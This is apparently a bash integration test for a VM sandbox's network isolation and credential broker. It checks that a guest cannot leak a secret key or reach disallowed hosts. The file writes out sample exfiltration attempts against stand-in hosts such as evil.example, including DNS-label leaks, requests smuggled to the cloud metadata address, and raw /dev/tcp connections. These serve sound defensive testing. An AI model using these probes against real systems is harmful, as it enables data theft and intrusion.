#!/bin/bash
# A session's network with real machines, on the host of the decoy world
# (tests/world/world.h): forty ways out, what is allowed, what is told, secrets, and the
# gateway's death. `network_test.sh user` does it as an ordinary user.
. "$(dirname "$0")/lib.sh"
command -v qemu-system-x86_64 >/dev/null || { echo "skip network: no qemu-system-x86_64 on PATH"; exit 0; }
. "$here/world.sh"

# In the world. The key is made here, so that no file and no argument has it but ours.
needle=needle-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
api=10.99.0.1:8445
api_log=$VMDECK_HOME/api.log
state_is() { v ls --all --json | tr -d '\n\t' | grep -o "\"id\": *\"$1\"[^]]*" | head -n 1 | grep -q "\"state\": *\"$2\""; }
in_guest() { v exec net-1 -- "$@"; }

set_up() {
	mkdir -p "$VMDECK_HOME/config"
	cd "$VMDECK_HOME" || return 1
	certificate api IP:10.99.0.1,DNS:a-10-99-0-1.lan.example,DNS:ok.example || return 1
	"$tools/net-api" 10.99.0.1 8445 api.pem api.key "$api_log" &
	api_pid=$!
	# The same where the Internet is, at every address of it.
	for p in $(ps -o pid= --ppid "$PPID"); do
		[ "$(readlink /proc/"$p"/ns/net)" != "$(readlink /proc/self/ns/net)" ] || continue
		nsenter -t "$p" -n "$tools/net-api" 0.0.0.0 9443 api.pem api.key "$VMDECK_HOME/there.log" &
		there_pid=$!
	done
	until_true 10 grep -q 'api ready' "$api_log" && until_true 10 grep -q 'api ready' there.log || return 1
	cat >config/agents.json <<-A
		{ "providers": {
			"anthropic": { "base_url": "https://$api", "ca": "$VMDECK_HOME/ca.pem" },
			"openai": { "base_url": "https://$api" },
			"named": { "base_url": "https://a-10-99-0-1.lan.example:8445", "local": true,
				"ca": "$VMDECK_HOME/ca.pem", "header": "x-named-key" },
			"inner": { "base_url": "https://a-10-99-0-1.lan.example:8445",
				"ca": "$VMDECK_HOME/ca.pem" } },
		"agents": { // what the person wrote
			"net": { "image": "tiny", "command": ["/bin/sh", "-l"],
				"allow": ["ok.example", "*.lan.example:80", "ok.example:9443"],
				"credentials": { "anthropic": { "from_env": "NEEDLE_KEY" },
					"openai": { "from_env": "NEEDLE_KEY" },
					"named": { "from_env": "NEEDLE_KEY" }, "inner": {} } },
			"shut": { "image": "tiny", "network": "none" } } }
	A
}

# What its own programs see.

a_machine_comes_up_with_its_network() {
	NEEDLE_KEY=$needle v up net >/dev/null 2>"$VMDECK_HOME/err" || fail "$(tail -n 3 "$VMDECK_HOME/err")"
	v cp "$tools/net-probe" net-1:/probe || fail "cp"
	in_guest chmod 755 /probe
}

ordinary_tools_work_without_knowing() {
	local out
	in_guest nslookup ok.example | grep -q 'Address.*198\.1[89]\.' || fail "nslookup: $(in_guest nslookup ok.example 2>&1)"
	in_guest sh -c 'wget -q -O - http://ok.example/plain' | grep -q /plain || fail "wget"
	in_guest sh -c 'http_proxy=$HTTP_PROXY wget -q -O - http://ok.example/proxied' | grep -q /proxied || fail "wget by proxy"
	# Why http_proxy is not set: busybox asks it for https as well, where it finds its own way without. The
	# decoy does not talk TLS: what counts is who was asked.
	out=$(in_guest sh -c 'http_proxy=$HTTP_PROXY wget -O - https://ok.example/' 2>&1) && fail "https by http_proxy"
	grep -q '40[05]' <<<"$out" || fail "the proxy was not asked: $out"
	grep -q 'net tcp 93.184.216.80:443' "$WORLD_LOG" && fail "somebody was"
	in_guest sh -c "timeout 10 wget -O - https://ok.example/" >/dev/null 2>&1 # -T crashes this busybox
	until_true 10 grep -q 'net tcp 93.184.216.80:443' "$WORLD_LOG" || fail "https finds no way of its own"
	in_guest sh -c 'echo hello | nc -w 30 ok.example 443' | grep -q hello || fail "nc"
	grep -q "net http 93.184.216.80:80 GET /plain ok.example" "$WORLD_LOG" || fail "the server was asked otherwise"
}

what_is_not_allowed_is_refused_at_once_and_told() {
	local began=${EPOCHREALTIME/./} out
	in_guest nslookup evil.example | grep -q REFUSED || fail "evil.example"
	out=$(in_guest sh -c 'for i in 1 2 3; do wget -O - http://evil.example/; done; nc -w 600 8.8.8.8 443' 2>&1) &&
		fail "reached: $out"
	[ $((${EPOCHREALTIME/./} - began)) -lt 120000000 ] || fail "not at once"
	until_true 10 eval 'v events net-1 | grep -q "refused evil.example.*not allowed"' || fail "$(v events net-1)"
	until_true 10 eval 'v events net-1 | grep -q "refused 8.8.8.8:443"' || fail "$(v events net-1)"
	[ "$(v events net-1 | grep -cE 'refused evil\.example( \(|: )')" = 1 ] || fail "not one row: $(v events net-1)"
	v events net-1 --json | grep -q '"name":.*"evil.example"' || fail "no JSON"
	until_true 10 eval 'v ls | grep net-1 | grep -q "!"' || fail "$(v ls)"
}

# The tiny image has neither curl nor git: the host's, inside the session's namespace, stand
# at the same place. busybox's own TLS does not verify; what passes is what is tested.
tls_passes_with_its_own_name_only() {
	local inside="nsenter -t $(field net-1 vm_pid) -n" address
	in_guest sh -c 'wget --no-check-certificate -q -O - https://ok.example:9443/tls' | grep -q '"/tls"' ||
		fail "wget: $(v events net-1 | tail -n 2)"
	$inside curl -sS --cacert "$VMDECK_HOME/ca.pem" --proxy http://10.200.0.1:3128 https://ok.example:9443/curl |
		grep -q '"/curl"' || fail "curl by the proxy"
	address=$(in_guest nslookup ok.example | sed -n 's/^Address.*\(198\.1[89]\.[0-9.]*\).*/\1/p' | head -n 1)
	$inside curl -sS --cacert "$VMDECK_HOME/ca.pem" --noproxy '*' --resolve "ok.example:9443:$address" \
		https://ok.example:9443/relay | grep -q '"/relay"' || fail "curl by the relay"
	$inside curl -sS -k -m 10 --noproxy '*' --resolve "evil.example:9443:$address" https://evil.example:9443/evil 2>/dev/null &&
		fail "another name passed"
	grep -q /evil "$VMDECK_HOME/there.log" && fail "the request for another name arrived"
	until_true 10 eval 'v events net-1 | grep -q "refused .*:9443"' || fail "not told: $(v events net-1)"
	git init -q -b main "$VMDECK_HOME/work" && git -C "$VMDECK_HOME/work" -c user.name=t -c user.email=t@t.example commit -q --allow-empty -m one &&
		mkdir -p "$VMDECK_HOME/served/git" &&
		git clone -q --bare "$VMDECK_HOME/work" "$VMDECK_HOME/served/git/x.git" &&
		git -C "$VMDECK_HOME/served/git/x.git" update-server-info || fail "git on this host"
	GIT_SSL_CAINFO=$VMDECK_HOME/ca.pem GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 $inside git -c http.proxy=http://10.200.0.1:3128 \
		clone -q https://ok.example:9443/git/x.git "$VMDECK_HOME/cloned" 2>"$VMDECK_HOME/err" || fail "git: $(cat "$VMDECK_HOME/err")"
	[ "$(git -C "$VMDECK_HOME/cloned" log --format=%s)" = one ] || fail "git cloned something else"
}

# Forty ways out. A probe counts as blocked when it was not answered and nothing of it is in
# the world's log, and only if the same arrives there when nothing is in its way.

control_of() { # target: it did arrive in the control's log
	case $1 in
	leak) grep -q ' leak ' "$VMDECK_HOME/control.log";;
	-) true;;
	*) grep -qF -- "$1" "$VMDECK_HOME/control.log";;
	esac
}

forty_ways_out_are_closed() {
	local mark mac blocked=0 numbers="" bad="" rx tap=/proc/$(field net-1 vm_pid)/net/dev
	# The controls: the same, from the host.
	mark=$(marks)
	exec 3<>/dev/tcp/93.184.216.80/22 && exec 3>&-
	mac=$(ip neigh show 93.184.216.1 | sed -n 's/.*lladdr \([^ ]*\).*/\1/p')
	timeout 60 "$tools/net-probe" host0 "$mac" control >"$VMDECK_HOME/control.out" 2>&1 || fail "$(cat "$VMDECK_HOME/control.out")"
	for t in 127.0.0.1/80 10.200.0.1/80 169.254.169.254/80 93.184.216.2/80; do
		exec 3<>/dev/tcp/$t && printf 'GET /smuggled HTTP/1.0\r\nHost: evil.example\r\n\r\n' >&3 && timeout 5 head -c 12 <&3 >/dev/null; exec 3>&-
	done
	exec 3<>/dev/tcp/93.184.216.80/9000 && echo SSH-2.0-probe >&3 && timeout 5 head -c 4 <&3 >/dev/null; exec 3>&-
	getent hosts s3cr3t-label-0.evil.example
	until_true 10 eval "since $mark | grep -q s3cr3t-label" || fail "the controls do not arrive"
	since "$mark" >"$VMDECK_HOME/control.log"
	# The probes.
	mark=$(marks)
	rx=$(awk '/vmdeck0/ { print $3 }' "$tap" 2>/dev/null)
	in_guest sh -c 'ip route replace default via 10.200.0.1 2>/dev/null; /probe eth0 02:fc:00:00:00:01' >"$VMDECK_HOME/probe.out" 2>&1 ||
		fail "$(tail -n 3 "$VMDECK_HOME/probe.out")"
	# Positive control: what is allowed is reached, after all that.
	in_guest sh -c 'echo after | nc -w 30 ok.example 443' | grep -q after || fail "ok.example is not reached any more"
	since "$mark" >"$VMDECK_HOME/probe.log"
	while read -r _ number name target result; do
		case $result in
		refused|silent) ;;
		*) bad="$bad $number/$name:$result"; continue;;
		esac
		if [ "$target" = leak ]; then
			grep -q ' leak ' "$VMDECK_HOME/probe.log" && { bad="$bad $number/$name:leaked"; continue; }
		elif [ "$target" != - ]; then
			grep -vE '93\.184\.216\.80:443|dns 93\.184\.216\.53:53 ok\.example' "$VMDECK_HOME/probe.log" | grep -qF -- "$target" &&
				{ bad="$bad $number/$name:arrived"; continue; }
		fi
		control_of "$target" || { echo "no control: $number $name $target"; continue; }
		blocked=$((blocked + 1)) numbers="$numbers $number"
	done < <(grep '^probe ' "$VMDECK_HOME/probe.out")
	[ -z "$bad" ] || fail "$bad"
	# Nothing else is in the log either: only what is allowed, and its name's resolution.
	grep -vE ' (tcp|http|data) 93\.184\.216\.80:(443|80)|dns 93\.184\.216\.53:53 (ok\.example|a-[0-9-]*\.lan\.example) ' \
		"$VMDECK_HOME/probe.log" >"$VMDECK_HOME/extra"
	[ ! -s "$VMDECK_HOME/extra" ] || fail "unexpected: $(head -n 3 "$VMDECK_HOME/extra")"
	[ "$blocked" -ge 40 ] || fail "only $blocked: $(grep '^no control' "$VMDECK_HOME/probe.out")"
	# Each number of the list from 1 to 40 is among them.
	for n in $(seq 1 40); do
		case " $numbers " in *" $n "*) ;; *) fail "number $n is not among the blocked";; esac
	done
	if [ -n "$rx" ]; then # the frames did get as far as the TAP
		[ $(($(awk '/vmdeck0/ { print $3 }' "$tap") - rx)) -gt 20 ] || fail "the guest's frames were not sent"
	fi
	echo "$blocked probes blocked"
}

# By the guest's own resolver; a thousand, by all ways, are in network_many_test.sh.
labels_go_nowhere() {
	local mark=$(marks)
	in_guest sh -c 'i=0; while [ $i -lt 40 ]; do n=$(printf "%08x" $RANDOM$i)
		for d in evil.example ok.example.evil.example x.ok.example; do
			nslookup -type=a label-$n-$i.$d 10.200.0.1; done; i=$((i + 1)); done >/dev/null 2>&1
		nslookup label-0.vmdeck >/dev/null 2>&1; nslookup ok.example' | grep -q 198. || fail "ok.example"
	since "$mark" | grep -q label- && fail "a label arrived: $(since "$mark" | grep label- | head -n 1)"
	until_true 10 eval 'v policy net-1 --json | grep -q "\"refused\":.*[0-9][0-9][0-9]"' || fail "not counted: $(v policy net-1)"
}

# Live changes.

a_name_is_allowed_and_denied_while_it_runs() {
	in_guest nslookup hosts.example | grep -q REFUSED || fail "hosts.example is allowed already"
	v allow net-1 hosts.example || fail "allow"
	in_guest sh -c 'echo live | nc -w 30 hosts.example 443' | grep -q live || fail "not reached after allow"
	v policy net-1 | grep -q hosts.example || fail "$(v policy net-1)"
	v deny net-1 hosts.example || fail "deny"
	in_guest nslookup hosts.example | grep -q REFUSED || fail "still there after deny"
	[ ! -e "$VMDECK_HOME/config/allow.json" ] || fail "kept without being asked"
	v deny net-1 hosts.example 2>"$VMDECK_HOME/err" && fail "denied twice"
	grep -q "hosts.example" "$VMDECK_HOME/err" || fail "$(cat "$VMDECK_HOME/err")"
	v allow net-1 'no*t' 2>/dev/null && fail "a rule that is none"
	cp "$VMDECK_HOME/config/agents.json" "$VMDECK_HOME/agents.before"
	v allow net-1 hosts.example --keep || fail "allow --keep"
	cmp -s "$VMDECK_HOME/config/agents.json" "$VMDECK_HOME/agents.before" || fail "agents.json was touched"
	grep -q hosts.example "$VMDECK_HOME/config/allow.json" || fail "not kept"
}

# The broker and its secret.

the_broker_serves_with_the_real_key() {
	local out
	out=$(in_guest sh -c 'echo $ANTHROPIC_BASE_URL $ANTHROPIC_API_KEY $OPENAI_BASE_URL')
	[ "$out" = "http://anthropic.vmdeck sk-ant-vmdeck-placeholder http://openai.vmdeck/v1" ] || fail "environment: $out"
	out=$(in_guest sh -c 'wget -q -O - --header "x-api-key: $ANTHROPIC_API_KEY" --header "authorization: Bearer guest" --post-data "{}" $ANTHROPIC_BASE_URL/v1/messages' 2>&1)
	case $out in *"from the provider"*/v1/messages*) ;; *) fail "answer: $out; $(v events net-1)";; esac
	grep -q "api   x-api-key: $needle" "$api_log" || fail "the key did not arrive"
	grep -qiE 'placeholder|Bearer guest|vmdeck' "$api_log" && fail "something of the guest's arrived: $(cat "$api_log")"
	in_guest sh -c 'wget -q -O - http://anthropic.vmdeck/v1/stream' | grep -c data: | grep -q 3 || fail "stream"
	# By name: resolved outside; one that is special-purpose only where that was meant.
	in_guest sh -c 'wget -q -O - http://named.vmdeck/named' | grep -q '"/named"' || fail "by name: $(in_guest sh -c 'wget -O - http://named.vmdeck/named' 2>&1)"
	grep -q "x-named-key: $needle" "$api_log" || fail "by name: no key"
	in_guest sh -c 'wget -q -O - http://inner.vmdeck/inner' >/dev/null 2>&1 && fail "a special-purpose address that was not meant"
	grep -q /inner "$api_log" && fail "it was asked"
	# Without the CA bundle its certificate is not believed, and the key not sent.
	in_guest sh -c 'wget -O - $OPENAI_BASE_URL/models' 2>&1 | grep -q '502' || fail "a certificate of nobody was believed"
	grep -q "Bearer $needle" "$api_log" && fail "the key went to a server that was not verified"
	in_guest sh -c 'wget -O - http://anthropic.vmdeck/../x; wget -O - http://other.vmdeck/' >/dev/null 2>&1 && fail "elsewhere"
	until_true 10 eval 'v policy net-1 --json | tr -d " \n\t" | grep -q "\"name\":\"anthropic\",\"requests\":[2-9]"' ||
		fail "$(v policy net-1)"
}

# pid, two halves: the text as often as it is in the process's memory
in_memory() { "$tools/net-memory" "$1" "${2:0:9}" "${2:9}" 2>/dev/null | cut -d' ' -f1; }

scan() { # when: everything that others could look at
	local hit
	hit=$(grep -rlaF --exclude=api.log --exclude=there.log -- "$needle" "$VMDECK_HOME" 2>/dev/null | head -n 3)
	[ -z "$hit" ] || fail "$1: in files: $hit"
	hit=$(find /tmp -maxdepth 3 -newer "$VMDECK_HOME/ca.pem" -type f -size -4M -user "$(id -u)" ! -path "$VMDECK_HOME/*" \
		-exec grep -laF -f <(printf '%s\n' "$needle") {} + 2>/dev/null | head -n 3)
	[ -z "$hit" ] || fail "$1: in /tmp: $hit"
	hit=$(grep -lzaF -f <(printf '%s\n' "$needle") /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null)
	[ -z "$hit" ] || fail "$1: in arguments or environment: $hit"
}

the_key_is_nowhere_but_in_the_gateway() {
	local vm=$(field net-1 vm_pid) sup=$(field net-1 pid) gw found
	scan "while it runs"
	gw=$(gateway_of net-1)
	[ -n "$gw" ] || fail "no gateway process"
	# The guest's memory, all of it, and the machine's own. A text that is there shows that looking works.
	in_guest sh -c 'echo marker-4242424242 >/dev/shm/x 2>/dev/null || echo marker-4242424242 >/tmp/x; cat /dev/shm/x /tmp/x' >/dev/null 2>&1
	found=$(in_memory "$vm" marker-4242424242)
	if [ -z "$found" ]; then
		[ "$(id -u)" = 0 ] && [ -z "${AS_USER:-}" ] && fail "the machine's memory cannot be read"
		echo "no look into memory without privileges"
	else
		[ "$found" -gt 0 ] || fail "the marker is not found: looking does not work"
		[ "$(in_memory "$gw" "$needle")" -gt 0 ] || fail "not even the gateway has it: looking does not work"
		[ "$(in_memory "$vm" "$needle")" = 0 ] || fail "in the machine's memory"
		[ "$(in_memory "$sup" "$needle")" = 0 ] || fail "in the supervisor's memory"
		# Their disks and whatever else they have open; what the guest wrote is found there.
		in_guest sh -c 'echo marker-disk-4242424242 >/root/marker; sync'
		found=$(find -L /proc/"$vm"/fd /proc/"$sup"/fd /proc/"$gw"/fd -mindepth 1 -maxdepth 1 -type f -printf '%D:%i %p\n' 2>/dev/null |
			sort -u -k1,1 | cut -d' ' -f2 | xargs grep -zaohF -f <(printf '%s\nmarker-disk-4242424242\n' "$needle"))
		case $found in *"$needle"*) fail "in a file that one of them has open";; esac
		case $found in *marker-disk-4242424242*) found=1;; esac
		[ $found = 1 ] || fail "the guest's disk is not found: looking does not work"
	fi
	in_guest sh -c "grep -rl needle- /etc /root /tmp /proc/*/environ 2>/dev/null" | grep -v '^/proc/self' | grep -q . && fail "in the guest's files"
	return 0
}

# Its end.

another_session_is_nobody_to_this_one() {
	NEEDLE_KEY=$needle v up net >/dev/null 2>"$VMDECK_HOME/err" || fail "$(tail -n 3 "$VMDECK_HOME/err")"
	v exec net-2 -- sh -c 'nc -l -p 7777 -e cat >/dev/null 2>&1 & nc -u -l -p 7778 >/tmp/udp 2>&1 & sleep 0; : >/tmp/seen'
	until_true 10 v exec net-2 -- sh -c 'echo x | nc -w 2 127.0.0.1 7777 | grep -q x' || fail "nobody listens in net-2"
	before=$(v exec net-2 -- cat /sys/class/net/eth0/statistics/rx_packets)
	in_guest sh -c 'for a in 10.200.0.2 10.200.0.3 10.200.0.6 10.200.1.2 255.255.255.255; do
		echo pairwise | nc -w 1 $a 7777; echo pairwise | nc -u -w 1 $a 7778; ping -c 1 -W 1 $a; arping -c 1 -w 1 -I eth0 $a; done' >/dev/null 2>&1
	[ "$(v exec net-2 -- cat /sys/class/net/eth0/statistics/rx_packets)" = "$before" ] || fail "packets arrived at net-2"
	v exec net-2 -- sh -c '! grep -q pairwise /tmp/udp' || fail "a datagram arrived"
	[ "$(v exec net-2 -- sh -c 'echo y | nc -w 30 ok.example 443')" = y ] || fail "net-2 is cut off"
}

a_killed_gateway_closes_everything_and_is_told() {
	local gw=$(gateway_of net-2) mark deck="tmux -L vmdeck-net-$$"
	# The operator has the dashboard open. (Who is root in a namespace only is not the root
	# whose sockets lie in /tmp/tmux-0.)
	local -x TMUX_TMPDIR=${TMPDIR:-/tmp}/vmdeck-tmux-$$
	mkdir -p "$TMUX_TMPDIR"
	command -v tmux >/dev/null || deck=true
	$deck -f /dev/null new-session -d -x 120 -y 40 "TERM=xterm-256color exec $VMDECK" || fail "tmux"
	[ "$deck" = true ] || until_true 20 eval "$deck capture-pane -p | grep -q net-2" || fail "$($deck capture-pane -p)"
	v exec net-2 -- sh -c '(while :; do echo tick; usleep 100000; done | nc ok.example 443 >/tmp/flow 2>&1; echo over >>/tmp/flow) & :'
	until_true 10 v exec net-2 -- grep -q tick /tmp/flow || fail "no flow"
	kill -KILL "$gw"
	until_true 3 eval 'v ls | grep net-2 | grep -q "gateway ended"' || fail "not told: $(v ls)"
	if [ "$deck" != true ]; then
		until_true 3 eval "$deck capture-pane -p | grep 'net-2.*asks' | grep -q 'no network'"
		mark=$? picture=$($deck capture-pane -p)
		pid=$($deck list-panes -F '#{pane_pid}')
		$deck kill-server 2>/dev/null
		until_true 20 gone "$pid" # and its preflight, which asks the same servers
		rm -rf "$TMUX_TMPDIR"
		[ $mark = 0 ] || fail "not on the screen: $picture"
	fi
	until_true 3 v exec net-2 -- sh -c '! nc -w 1 10.200.0.1 3128 </dev/null' || fail "the proxy still takes connections"
	until_true 3 v exec net-2 -- grep -q over /tmp/flow || fail "an open flow was not cut"
	mark=$(marks)
	v exec net-2 -- sh -c 'nslookup ok.example; echo z | nc -w 1 ok.example 443; wget -T 1 -O - http://ok.example/; wget -T 1 -O - http://anthropic.vmdeck/' >/dev/null 2>&1
	[ -z "$(since "$mark")" ] || fail "$(since "$mark" | head -n 2)"
	v events net-2 | grep -q '^[0-9:]* down' || fail "$(v events net-2)"
	[ "$(in_guest sh -c 'echo other | nc -w 30 ok.example 443')" = other ] || fail "another session noticed"
	v allow net-2 hosts.example 2>"$VMDECK_HOME/err" && fail "allowed by nobody"
	grep -q 'no gateway' "$VMDECK_HOME/err" || fail "$(cat "$VMDECK_HOME/err")"
}

killed_it_leaves_no_secret() {
	kill -KILL "$(field net-2 pid)"
	until_true 3 gone "$(field net-2 vm_pid)" || fail "the machine outlived it"
	scan "after SIGKILL"
	v stop net-1 --yes >/dev/null || v kill net-1 --yes
	until_true 20 state_is net-1 ended || fail "$(v ls --all)"
	scan "after its end"
	v policy net-1 | grep -q anthropic || fail "what it left is not readable: $(v policy net-1)"
	v events net-1 | grep -q evil.example || fail "its events are lost"
}

none_has_no_gateway() {
	v up shut >/dev/null 2>"$VMDECK_HOME/err" || fail "$(tail -n 3 "$VMDECK_HOME/err")"
	for port in 53 80 3128; do
		v exec shut-1 -- nc -w 1 10.200.0.1 $port </dev/null && fail "port $port is open"
	done
	v exec shut-1 -- sh -c 'env | grep -qi proxy' && fail "it was told of a proxy"
	v policy shut-1 | grep -q 'network  none' || fail "$(v policy shut-1)"
	v kill shut-1 --yes >/dev/null
}

a_credential_that_is_not_there_is_told_before_anything_starts() {
	(unset NEEDLE_KEY; v up net) >/dev/null 2>"$VMDECK_HOME/err" && fail "started"
	grep -q NEEDLE_KEY "$VMDECK_HOME/err" && grep -q 'fix:' "$VMDECK_HOME/err" || fail "$(cat "$VMDECK_HOME/err")"
	[ ! -e "$VMDECK_HOME/state/sessions/net-3" ] || fail "something is left"
}

set_up || { echo "not ok set_up: $(tail -n 2 "$api_log" 2>/dev/null)"; exit 1; }
tests="a_machine_comes_up_with_its_network ordinary_tools_work_without_knowing
	what_is_not_allowed_is_refused_at_once_and_told
	tls_passes_with_its_own_name_only forty_ways_out_are_closed labels_go_nowhere
	a_name_is_allowed_and_denied_while_it_runs the_broker_serves_with_the_real_key
	the_key_is_nowhere_but_in_the_gateway another_session_is_nobody_to_this_one
	a_killed_gateway_closes_everything_and_is_told killed_it_leaves_no_secret
	none_has_no_gateway a_credential_that_is_not_there_is_told_before_anything_starts"
for t in ${*:-$tests}; do
	test_run "$t"
done
kill "$api_pid" "$there_pid" 2>/dev/null
end_home
